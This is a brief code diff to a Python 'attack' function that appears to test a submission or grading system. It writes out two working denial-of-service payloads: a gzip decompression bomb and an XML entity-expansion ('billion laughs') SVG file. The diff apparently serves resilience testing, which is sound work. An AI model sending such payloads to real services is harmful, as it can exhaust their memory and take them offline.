@@ -7,7 +7,7 @@ import gzip
 
 
 def attack(work):
-    work.answer("forward", "def forward_propagation(x, theta):\n    return theta * x")
+    work.answer_rightly("forward")
     work.file("data.json.gz", gzip.compress(bytes(10_000_000)))
     entities = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9))
     work.file("figure.svg", f'<!DOCTYPE svg [<!ENTITY e0 "x">{entities}]><svg>&e9;</svg>')
